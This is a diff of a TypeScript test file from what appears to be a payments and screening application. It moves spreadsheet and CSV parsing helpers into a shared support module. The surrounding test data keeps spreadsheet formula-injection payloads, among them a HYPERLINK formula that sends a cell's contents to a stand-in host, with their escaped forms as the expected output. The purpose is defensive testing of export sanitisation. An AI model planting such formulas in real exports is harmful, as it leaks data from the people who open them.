@@ -4,7 +4,6 @@
 // the amounts, references and account numbers the bank reads stay exactly as they were.
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import { chineseWorkingDays } from '../../../src/adapters/calendar/chinese-working-days.ts';
 import { sm3Hex } from '../../../src/adapters/crypto/sm3.ts';
@@ -23,6 +22,7 @@ import { runPaymentBatch } from '../../../src/services/payments/run-batch.ts';
 import { approveBatch } from '../../../src/services/review/review-batch.ts';
 import { proposeBatch } from '../../../src/services/review/propose-batch.ts';
 import { exportDecisionsXlsx } from '../../../src/services/screening/export-decisions.ts';
+import { csvRows, formulaCells, xlsxRows } from '../../support/export-cells.ts';
 import { creditCodeFor, table, testCipher, unitRecord, writeCsvFile } from '../../support/import-fixtures.ts';
 import { insertCase, insertRun, ROUND } from '../../support/review-fixtures.ts';
 import { storeBackends, suiteWithFolder } from '../../support/store-backends.ts';
@@ -42,56 +42,6 @@ const HOSTILE_NAMES: readonly (readonly [string, string])[] = [
   ['@SUM(A1:A9)威海', `'@SUM(A1:A9)威海`],
 ];
 const HOSTILE_BANK = ['=HYPERLINK("http://x.example/?q="&A1)', `'=HYPERLINK("http://x.example/?q="&A1)`] as const;
-
-/** Every text cell a spreadsheet would take for a formula (text that is only a number is a number, not a formula). */
-function formulaCells(cells: readonly string[]): string[] {
-  return cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:\.\d+)?$/.test(cell));
-}
-
-async function xlsxRows(path: string): Promise<string[][]> {
-  const workbook = new ExcelJS.Workbook();
-  await workbook.xlsx.readFile(path);
-  const rows: string[][] = [];
-  for (const sheet of workbook.worksheets) {
-    sheet.eachRow((row) => {
-      const cells: string[] = [];
-      row.eachCell((cell) => {
-        expect(cell.type, `${sheet.name}!${cell.address} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
-        cells.push(String(cell.value));
-      });
-      rows.push(cells);
-    });
-  }
-  return rows;
-}
-
-/** RFC 4180 fields of a UTF-8 CSV with BOM, as Excel splits them. */
-function csvRows(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  const body = text.replace(/^\uFEFF/, '');
-  for (let i = 0; i < body.length; i++) {
-    const ch = body[i]!;
-    if (quoted) {
-      if (ch === '"' && body[i + 1] === '"') field += body[++i];
-      else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\r' && body[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += ch;
-  }
-  return rows;
-}
 
 /** Imports the units through the import service, as a case worker's upload does; returns their ids in file order. */
 async function importUnits(store: Store, folder: string): Promise<number[]> {
